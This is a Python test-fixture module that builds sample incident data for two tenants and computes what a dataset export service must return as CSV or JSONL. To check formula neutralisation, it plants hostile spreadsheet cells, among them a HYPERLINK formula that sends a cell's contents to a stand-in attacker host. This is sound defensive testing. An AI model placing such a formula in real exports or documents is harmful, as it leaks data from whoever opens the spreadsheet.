"""Hand-built incident data for the incident store and dataset export tests, and what an export of it must return.

Two tenants, a few incidents each over several UTC days, every child dataset populated, with hostile cells (formula
openings, commas, quotes, newlines, non-ASCII) and two incidents created in the same millisecond.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable, Mapping, Sequence
from datetime import datetime, timedelta
from typing import Any

from devtools.lambda_runtime import rest_proxy_event
from devtools.provision import local_refs
from export_service.dal.incident_store import IncidentStore
from export_service.logic.incident_records import IncidentBundle, export_row
from export_service.models.incidents import (
    Dataset,
    Incident,
    IncidentEvent,
    IncidentImpact,
    IncidentRoleAssignment,
    Retrospective,
)
from tests.helpers import (
    DOCUMENTED_DATASET_COLUMNS,
    DOCUMENTED_DATASET_SOURCES,
    authorizer_context,
    spreadsheet_safe,
)
from tests.integration.support import call

RESOURCE = "/v1/export/{dataset}"
ALL_DATASETS = [dataset.value for dataset in Dataset]
COLUMNS = DOCUMENTED_DATASET_COLUMNS  # the documented columns, not the product's models
SOURCES = DOCUMENTED_DATASET_SOURCES
ATTRIBUTE = {"severities": "severity", "priorities": "priority", "statuses": "status", "project_ids": "project_id"}

DEFAULT_CONTEXT = object()
HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?x="&A1,"open")'


def at(text: str) -> datetime:
    return datetime.fromisoformat(text.replace("Z", "+00:00"))


def _incident(tenant: str, suffix: str, number: str, created: str, **fields: Any) -> Incident:
    start = at(created)
    defaults: dict[str, Any] = {
        "id": f"inc-{tenant}-{suffix}",
        "account_id": f"acct-{tenant}",
        "organization_id": f"org-{tenant}",
        "created_at": start,
        "updated_at": start + timedelta(hours=2),
        "number": number,
        "started_at": start - timedelta(minutes=10),
        "detected_at": start - timedelta(minutes=5),
        "opened_at": start,
        "started_by": f"oncall@{tenant}.example.com",
    }
    return Incident(**{**defaults, **fields})


def _children(incident: Incident, offsets_hours: Sequence[float], *, closed: bool, hostile: bool) -> IncidentBundle:
    """Events, role assignments, impacts (and a retrospective when closed) created after the incident."""
    tenant_bits = {"account_id": incident.account_id, "organization_id": incident.organization_id}
    base = incident.created_at

    def when(hours: float) -> dict[str, datetime]:
        moment = base + timedelta(hours=hours)
        return {"created_at": moment, "updated_at": moment + timedelta(minutes=1)}

    iid = incident.id
    events = [
        IncidentEvent(
            id=f"evt-{iid}-{n}",
            incident_id=iid,
            created_by_name=("@mallory" if hostile and n == 0 else "Ana Silva"),
            type=event_type,
            event_details=details,
            **tenant_bits,
            **when(hours),
        )
        for n, (hours, (event_type, details)) in enumerate(
            zip(
                offsets_hours,
                [
                    ("IncidentStatus", {"new_status": "investigating"}),
                    ("Note", {"body": 'Rolled back "v2", checking,\nthen: café ☕'}),
                    (
                        "ImpactUpdate",
                        {
                            "update_type": "addition",
                            "impacted_type": "service",
                            "impacted_id": f"svc-{iid}",
                            "old_condition_name": None,
                            "new_condition_name": "Degraded",
                        },
                    ),
                ],
                strict=False,
            )
        )
    ]
    roles = [
        IncidentRoleAssignment(
            id=f"role-{iid}-0",
            status="assigned",
            incident_role_id="role-commander",
            incident_role_name="Incident Commander",
            incident_id=iid,
            assigned_user_id="user-ana",
            assigned_user_name='\tTabby, the "cat"' if hostile else "Ana Silva",
            **tenant_bits,
            **when(offsets_hours[0]),
        ),
        IncidentRoleAssignment(
            id=f"role-{iid}-1",
            status="unassigned",
            incident_role_id="role-scribe",
            incident_role_name="Scribe",
            incident_id=iid,
            assigned_user_id="user-bo",
            assigned_user_name="Bo Lindqvist",
            **tenant_bits,
            **when(offsets_hours[-1]),
        ),
    ]
    impacts = [
        IncidentImpact(
            id=f"imp-{iid}-0",
            incident_id=iid,
            impacted_id=f"svc-{iid}",
            impacted_type="service",
            impacted_slug="-api-gateway" if hostile else "checkout",
            condition_name="Degraded",
            **tenant_bits,
            **when(offsets_hours[0] + 0.5),
        )
    ]
    retrospectives = (
        [
            Retrospective(
                id=f"retro-{iid}",
                name=f"Retro of {incident.number}",
                summary="+1 for the on-call" if hostile else "Root cause: expired certificate",
                tags=["dns", "größe"],
                incident_id=iid,
                additional_details="",
                questions=[
                    {"title": "What went well?", "body": "Fast rollback", "question_type_id": "q-1"},
                    {"title": "What didn't?", "body": 'Paging, "again"', "question_type_id": "q-2"},
                ],
                **tenant_bits,
                **when(offsets_hours[-1] + 1),
            )
        ]
        if closed
        else []
    )
    return IncidentBundle(incident, events, roles, impacts, retrospectives)


def _acme() -> list[IncidentBundle]:
    a1 = _incident(
        "acme",
        "001",
        "101",
        "2026-03-01T08:00:00Z",
        name="Checkout latency, EU",
        severity="HIGH",
        priority="HIGH",
        status="OPEN",
        project_id=0,
        tags=["PROD", "T1"],
        acknowledged_at=at("2026-03-01T08:03:00.123Z"),
        investigating_at=at("2026-03-01T08:10:00Z"),
        identified_at=at("2026-03-01T09:00:00Z"),
        mitigated_at=at("2026-03-01T10:00:00Z"),
        active_duration=timedelta(hours=26, minutes=3, seconds=7),
        ticket_id=2411,
        description="p99 above 2 s",
    )
    a2 = _incident(
        "acme",
        "002",
        "102",
        "2026-03-01T23:59:59.999Z",
        name=HOSTILE_NAME,
        severity="MEDIUM",
        priority="LOW",
        status="CLOSED",
        project_id=24,
        tags=["T1"],
        resolved_at=at("2026-03-02T03:00:00Z"),
        retrospective_started_at=at("2026-03-02T04:00:00Z"),
        retrospective_completed_at=at("2026-03-02T05:00:00Z"),
        active_duration=timedelta(0),
    )
    a3 = _incident(
        "acme",
        "003",
        "103",
        "2026-03-02T12:00:00Z",
        name="Ünïcode — café outage",
        severity="",
        priority="MEDIUM",
        status="OPEN",
        project_id=7,
        tags=[],
        started_at=None,
        detected_at=None,
        started_by="",
    )
    a5 = _incident(  # the same millisecond as a3: id breaks the tie ("0025" < "003")
        "acme",
        "0025",
        "105",
        "2026-03-02T12:00:00Z",
        name="Queue backlog",
        severity="LOW",
        priority="",
        status="OPEN",
        project_id=24,
        tags=["PROD-EU"],
    )
    a4 = _incident(
        "acme",
        "004",
        "104",
        "2026-03-03T00:00:00Z",
        name="-2+3 DNS flaps",
        severity="LOW",
        priority="HIGH",
        status="CLOSED",
        project_id=24,
        tags=["PROD", "dns"],
        resolved_at=at("2026-03-03T06:00:00Z"),
        active_duration=timedelta(hours=6),
    )
    return [
        _children(a1, [0.25, 1, 26], closed=False, hostile=False),
        _children(a2, [0.001, 2], closed=True, hostile=True),
        _children(a3, [0.5], closed=False, hostile=False),
        _children(a5, [0.5], closed=False, hostile=False),
        _children(a4, [0.1, 30], closed=True, hostile=False),
    ]


def _globex() -> list[IncidentBundle]:
    g1 = _incident(
        "globex",
        "001",
        "7",
        "2026-03-01T09:00:00Z",
        name="Globex billing down",
        severity="HIGH",
        priority="HIGH",
        status="OPEN",
        project_id=0,
        tags=["PROD", "T1"],
    )
    g2 = _incident(
        "globex",
        "002",
        "8",
        "2026-03-02T15:00:00Z",
        name="Globex search slow",
        severity="MEDIUM",
        priority="LOW",
        status="CLOSED",
        project_id=24,
        tags=["T1"],
    )
    return [_children(g1, [1, 2], closed=False, hostile=False), _children(g2, [1], closed=True, hostile=False)]


def bundles(tenant: str) -> list[IncidentBundle]:
    return {"acme": _acme, "globex": _globex}[tenant]()


def incident_store(stack: Any) -> IncidentStore:
    return IncidentStore(stack.dynamodb, local_refs()["IncidentsTable"])


def _models(bundle: IncidentBundle, dataset: str) -> list[Any]:
    return {
        "incidents": [bundle.incident],
        "incident-events": bundle.events,
        "incident-role-assignments": bundle.role_assignments,
        "incident-impacts": bundle.impacts,
        "retrospectives": bundle.retrospectives,
    }[dataset]


def expected(
    source: Iterable[IncidentBundle],
    dataset: str,
    start: datetime | None = None,
    end: datetime | None = None,
    *,
    incident_id: str | None = None,
    descending: bool = False,
    **filters: Sequence[Any],
) -> list[dict[str, str]]:
    """What an export of ``dataset`` in [start, end] with the given filters must return, in (created_at, id) order.

    List filters (severities, priorities, statuses, project_ids: any of; tags: any tag in common) test the incident.
    """

    def wanted(bundle: IncidentBundle, model: Any) -> bool:
        if start is not None and model.created_at < start:
            return False
        if end is not None and model.created_at > end:
            return False
        if incident_id is not None and bundle.incident.id != incident_id:
            return False
        for name, values in filters.items():
            if name == "tags":
                if not set(values) & set(bundle.incident.tags):
                    return False
            elif getattr(bundle.incident, ATTRIBUTE[name]) not in values:
                return False
        return True

    rows = [
        export_row(Dataset(dataset), model)
        for bundle in source
        for model in _models(bundle, dataset)
        if wanted(bundle, model)
    ]
    rows.sort(key=lambda row: (row["created_at"], row["id"]), reverse=descending)
    return rows


def csv_rows(rows: Iterable[Mapping[str, str]], dataset: str) -> list[list[str]]:
    """The CSV rows (after the header) an export of ``rows`` must contain, formulas neutralised."""
    return [[spreadsheet_safe(row[column]) for column in COLUMNS[dataset]] for row in rows]


def parse_csv(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body, newline="")))


def dataset_event(
    dataset: str,
    params: Mapping[str, str | Sequence[str]] | None = None,
    *,
    tenant: str = "acme",
    permissions: str = "INCIDENTS_READ",
    context: Any = DEFAULT_CONTEXT,
) -> dict[str, Any]:
    """A REST proxy event for GET /v1/export/{dataset}, as API Gateway sends it once the authorizer allowed it.

    ``context``: the authorizer context (None: no authorizer ran); by default a key of ``tenant`` with ``permissions``.
    """
    query = {name: [value] if isinstance(value, str) else list(value) for name, value in (params or {}).items()}
    authorizer = (
        authorizer_context(tenant, f"ak_{tenant}_incidents", permissions) if context is DEFAULT_CONTEXT else context
    )
    return rest_proxy_event(
        method="GET",
        path=f"/v1/export/{dataset}",
        resource=RESOURCE,
        path_parameters={"dataset": dataset},
        headers={"Accept": ["*/*"], "User-Agent": ["pytest"]},
        query=query,
        authorizer=authorizer,
    )


def export_dataset(event: dict[str, Any]) -> dict[str, Any]:
    return call("DatasetExportFunction", event)


def jsonl(body: str) -> list[dict[str, str]]:
    assert body == "" or body.endswith("\n")
    return [json.loads(line) for line in body.splitlines()]
